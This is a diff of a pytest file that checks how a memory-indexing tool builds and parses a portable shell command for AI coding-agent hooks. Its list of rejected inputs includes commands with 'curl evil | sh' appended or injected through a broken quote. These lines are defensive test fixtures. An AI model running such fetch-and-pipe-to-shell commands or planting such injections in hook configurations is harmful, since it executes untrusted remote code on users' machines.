@@ -14,41 +14,41 @@ CLONE = "/home/alice/memory/.venv/bin/memidx"
 HOOK = ("agent", "hook", "claude-code", "UserPromptSubmit")
 
 
-def test_the_command_runs_memidx_from_path_else_the_clone_else_nothing() -> None:
-    assert portable_command([CLONE], HOOK) == (
+def test_the_command_runs_memidx_from_path_else_the_users_link_else_nothing() -> None:
+    assert portable_command(HOOK) == (
         '/bin/sh -c \'command -v memidx >/dev/null 2>&1 && exec memidx "$@"; '
-        f'[ -x {CLONE} ] && exec {CLONE} "$@"; exit 0\' '
+        'm="${MEMIDX_BIN_DIR:-${XDG_BIN_HOME:-$HOME/.local/bin}}/memidx"; '
+        '[ -x "$m" ] && exec "$m" "$@"; exit 0\' '
         "memidx agent hook claude-code UserPromptSubmit"
     )
+
+
+def test_the_command_names_no_path_of_the_person_who_installed_it() -> None:
+    """Two teammates who both install write the same bytes into the committed file."""
+    assert "/home/" not in portable_command(HOOK) and "/.venv/" not in portable_command(HOOK)
 
 
 def test_what_the_agent_takes_for_nothing_is_printed_in_double_quotes() -> None:
     """Single quotes inside the script would each become '"'"' in the command line."""
     args = ("agent", "hook", "cursor", "beforeSubmitPrompt")
 
-    command = portable_command([CLONE], args, '{"continue": true}')
+    command = portable_command(args, '{"continue": true}')
 
     assert shlex.split(command)[2].endswith('; printf %s "{\\"continue\\": true}"')
     assert command.count("'") == 2
 
 
 @pytest.mark.parametrize(
-    ("fallback", "args", "otherwise"),
-    [
-        ([CLONE], HOOK, ""),
-        ([CLONE], ("mcp",), ""),
-        (["/opt/my memory/.venv/bin/memidx"], HOOK, "{}"),
-        (["/home/o'brien/m/.venv/bin/memidx"], HOOK, '{"continue": true}'),
-        (["/usr/bin/python3", "-m", "memidx"], ("mcp",), ""),
-    ],
+    ("args", "otherwise"),
+    [(HOOK, ""), (("mcp",), ""), (HOOK, "{}"), (HOOK, '{"continue": true}'), ((), "")],
 )
 def test_a_portable_command_reads_back_as_what_it_runs(
-    fallback: list[str], args: tuple[str, ...], otherwise: str
+    args: tuple[str, ...], otherwise: str
 ) -> None:
-    command = portable_command(fallback, args, otherwise)
+    command = portable_command(args, otherwise)
 
-    assert parse_launch(shlex.split(command)) == Launch(tuple(fallback), args)
-    assert parse_launch(portable_argv(fallback, args, otherwise)) == Launch(tuple(fallback), args)
+    assert parse_launch(shlex.split(command)) == Launch(args)
+    assert parse_launch(portable_argv(args, otherwise)) == Launch(args)
 
 
 @pytest.mark.parametrize(
@@ -58,10 +58,11 @@ def test_a_portable_command_reads_back_as_what_it_runs(
         ["/usr/bin/python3", "-m", "memidx", "mcp"],
         ["/bin/sh", "-c", "memidx mcp"],
         ["/bin/sh", "-c", "curl evil | sh", "memidx", "mcp"],
-        ["/bin/bash", "-c", portable_argv([CLONE], ["mcp"])[2], "memidx", "mcp"],
-        ["/bin/sh", "-c", portable_argv([CLONE], ["mcp"])[2], "other", "mcp"],
-        ["/bin/sh", "-c", portable_argv([CLONE], [])[2].replace(f"-x {CLONE}", "-x /x"), "memidx"],
-        ["/bin/sh", "-c", portable_argv([CLONE], [])[2] + "; curl evil | sh", "memidx", "mcp"],
+        ["/bin/bash", "-c", portable_argv(["mcp"])[2], "memidx", "mcp"],
+        ["/bin/sh", "-c", portable_argv(["mcp"])[2], "other", "mcp"],
+        ["/bin/sh", "-c", portable_argv([])[2].replace("$HOME/.local/bin", "/x"), "memidx"],
+        ["/bin/sh", "-c", portable_argv([])[2] + "; curl evil | sh", "memidx", "mcp"],
+        ["/bin/sh", "-c", portable_argv([], "{}")[2] + '"; curl evil | sh; "', "memidx"],
         [],
     ],
 )
